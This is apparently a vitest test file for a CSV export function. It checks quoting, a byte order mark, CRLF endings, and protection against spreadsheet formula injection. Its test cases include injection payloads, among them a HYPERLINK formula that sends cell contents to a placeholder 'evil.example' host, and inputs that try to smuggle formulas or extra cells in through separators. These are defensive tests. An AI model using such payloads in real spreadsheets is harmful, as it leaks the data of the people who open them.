import { assert, property, string } from 'fast-check'
import { expect, test } from 'vitest'

import { anyText } from '#server/testing/simulations/any-text.ts'

import { writeCsv } from './csv.ts'

const MARK = '\ufeff'

/** Parses RFC 4180, cell by cell. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  let row: string[] = []
  for (const [, quoted, plain = '', end] of text.slice(MARK.length).matchAll(cell)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

/** The first row has the titles. */
const write = ([titles = [], ...rows]: string[][]) =>
  writeCsv(
    titles.map((title, at) => [title, (row: string[]) => row[at]] as const),
    rows,
  )

test('cells with commas, quotes and line breaks are read back', () => {
  const row = ['plain', 'a, b', 'say "hi"', 'two\r\nlines', '', ' space ', 'Zoë 🪴']
  expect(readCsv(write([row, row]))).toEqual([row, row])
})

test('a file starts with a byte order mark and ends each row with CRLF', () => {
  expect(writeCsv([['é', (row: number) => row]], [1])).toBe(`${MARK}é\r\n1\r\n`)
})

test.for([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example?"&A1,"Click")', `'=HYPERLINK("https://evil.example?"&A1,"Click")`],
  ['+41 44 000', "'+41 44 000"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "\t'=1"],
  ['  =1', "'  =1"],
  ['"=1"', `'"=1"`],
  ["'=1", "''=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['Ada;=1', "Ada;'=1"],
  ['Ada,=1', "Ada,'=1"],
  ['Ada\n=1', "Ada\n'=1"],
  ['\u0000=1', "'=1"],
  ['Jean-Luc @ home = fine', 'Jean-Luc @ home = fine'],
])('a spreadsheet reads %j as text', ([text, harmless]) => {
  expect(readCsv(write([[text!]]))).toEqual([[harmless]])
})

test('no text becomes a formula or an additional cell', () => {
  assert(
    property(anyText(60), string({ unit: 'grapheme-ascii' }), (any, ascii) => {
      const rows = readCsv(
        write([
          [any, ascii],
          ['next', ascii],
        ]),
      )
      expect(rows.map(({ length }) => length)).toEqual([2, 2])
      for (const cell of rows.flat()) {
        for (const part of cell.split(/[;,\t\r\n]/)) expect(part).not.toMatch(/^[\s"]*[=+\-@]/)
      }
    }),
    { numRuns: 2_000 },
  )
})
